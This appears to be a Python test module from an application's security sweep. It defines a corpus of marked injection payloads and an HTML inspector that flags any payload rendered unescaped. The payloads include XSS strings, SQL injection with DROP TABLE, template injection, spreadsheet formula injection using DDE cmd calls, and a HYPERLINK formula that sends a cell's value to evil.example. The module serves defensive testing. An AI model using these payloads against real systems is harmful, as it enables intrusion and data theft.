"""The payload corpus of the security sweep, and the checks that a page or file does not obey one.

Each payload carries a marker (``erbm``) so a stored copy can be found again in exports. The
HTML check is structural rather than a substring search: the strict CSP means the application
itself never writes an inline event handler, an inline script or a ``javascript:`` link, so any
such thing in a page can only be an injected payload that escaped escaping.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser

LONG = "erbm" + "x" * 9996  # 10,000 characters

PAYLOADS: list[str] = [
    "<script>alert('erbm')</script>",
    "<img src=x onerror=alert(1)>erbm",
    "\" autofocus onfocus=alert(1) x=' onmouseover='alert(1)' erbm",
    "javascript:alert('erbm')//<a href=\"javascript:alert(1)\">a</a> [lien](javascript:alert(1))",
    "erbm{{7*7}}tpl erbm${7*7}tpl erbm#{7*7}tpl erbm<%= 7*7 %>tpl {% raw %} {{ config }}",
    "erbm' OR 1=1 -- \"; DROP TABLE users; --",
    "erbm\u200b\u200c\u200d\ufeff zero\u202eLTR\u202c\u2066iso\u2069",
    "erbm\x00nul\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\ufffe end",
    "erbm\r\nBEGIN:VEVENT\r\nSUMMARY:injecté\r\nEND:VEVENT\r\nX-INJ:1",
    '=HYPERLINK("http://evil.example/?x="&A1,"erbm")',
    "+cmd|' /C calc'!A0 erbm",
    "-2+3+cmd|' /C calc'!A0 erbm",
    "@SUM(1+1)*cmd|' /C calc'!A0 erbm",
    LONG,
]

# What a template engine would make of the template payload if it ever evaluated it.
TEMPLATE_RESULTS = re.compile(r"erbm\W{0,3}49\W{0,3}tpl|SECRET_KEY")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SCRIPT_BODY = re.compile(r"<script\b[^>]*>(?!</script>)", re.I)


class _Inspector(HTMLParser):
    """Collects what only an injection could have put in one of the application's pages."""

    URL_ATTRS = {"href", "src", "action", "formaction", "hx-get", "hx-post", "data", "poster", "srcdoc"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag}> carries an event handler {name}={value!r}")
            if name in self.URL_ATTRS and value:
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squeezed.startswith(("javascript:", "vbscript:", "data:text/html")):
                    self.findings.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.findings.append(f"<script src={src!r}> not from /static")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.findings.append("injected <img src=x>")
        if tag in {"iframe", "object", "embed", "base", "frame"}:
            self.findings.append(f"unexpected <{tag}>")


# Cheap test before the parser: a page without any of these cannot hold what the parser looks for
# (the corpus has no entity-encoded payload, so raw text is enough to decide).
_SUSPECT = re.compile(r"[\s/\"']on[a-z]+\s*=|script:|data:text|<script(?![^>]*src=\"/static/)"
                      r"|<(?:iframe|object|embed|base|frame)\b|src=[\"']?x\b", re.I)


def html_findings(html: str) -> list[str]:
    """Signs, in a page the application rendered, that a payload was not escaped."""
    findings = []
    if _SUSPECT.search(html):
        inspector = _Inspector()
        inspector.feed(html)
        inspector.close()
        findings = inspector.findings
    if "<script>alert" in html:
        findings.append("raw <script>alert")
    if TEMPLATE_RESULTS.search(html):
        findings.append("template syntax evaluated: " + TEMPLATE_RESULTS.search(html).group(0))
    return findings
